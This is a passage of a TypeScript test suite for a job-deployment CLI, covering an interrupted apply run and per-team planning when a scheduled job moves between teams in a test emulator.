    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-interrupt-late-"));
    writeSpec(dir, "late", dailyJobs(2));
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    writeSpec(dir, "late", dailyJobs(1));
    const controller = new AbortController();
    studio.emulator.store.setListener({ job: () => controller.abort("SIGINT"), file: () => undefined });
    const result = await runCli(["apply", ".", "--yes"], { cwd: dir, env, signal: controller.signal }).finally(() =>
      studio.emulator.store.setListener(undefined),
    );
    expect(result.stdout).toMatch(/^Apply incomplete: 0 created, 0 replaced, 1 cancelled, 0 failed, 1 skipped\.$/m);
    expect(result.stdout).toContain(
      "cancel demo/*: skipped: interrupted before it started: this apply did not look for jobs a concurrent apply changed meanwhile; run apply again",
    );
    expect(result.stderr).toContain("Interrupted: steps not started were skipped. Run apply again to finish.\n");
    expect(result.code).toBe(1);
  });

  it("plans per team, and --team empties a team the spec no longer names", async () => {
    const multi = await startTestStudio({
      config: { tokens: [{ token: "dev-token", user: "dev", teams: ["alpha", "beta"], scopes: ["JOB_READ", "JOB_WRITE"] }] },
    });
    const multiEnv = { DATACHAIN_STUDIO_URL: multi.emulator.url, DATACHAIN_STUDIO_TOKEN: "dev-token" };
    try {
      const dir = mkdtempSync(join(tmpdir(), "studio-jobs-teams-"));
      const write = (teamOfB: string) =>
        writeFileSync(
          join(dir, "studio-jobs.yaml"),
          stringify({
            version: 1,
            stack: "teams",
            jobs: { a: { team: "alpha", query: "print(1)" }, b: { team: teamOfB, query: "print(2)", schedule: { cron: "@daily" } } },
          }),
        );
      write("beta");
      expect((await runCli(["apply", ".", "--yes"], { cwd: dir, env: multiEnv })).code).toBe(0);
      write("alpha");
      const moved = await runCli(["--team", "beta", "plan", "."], { cwd: dir, env: multiEnv });
      expect(moved.stdout).toMatch(/^ {2}\+ {3}alpha\/b {2}create$/m);
      expect(moved.stdout).toMatch(/^ {2}- {3}beta\/b {2}cancel job \w+ \(moved to team alpha\)$/m);
      expect(moved.stdout).toContain("Plan: 1 to create, 0 to replace, 1 to cancel, 1 unchanged.");
      // Without --team too: the alpha job records that the stack covered beta when it was applied.
      const without = await runCli(["plan", "."], { cwd: dir, env: multiEnv });
      expect(without.stdout).toContain("Plan: 1 to create, 0 to replace, 1 to cancel, 1 unchanged.");
    } finally {
      await multi.close();
    }
  });
});
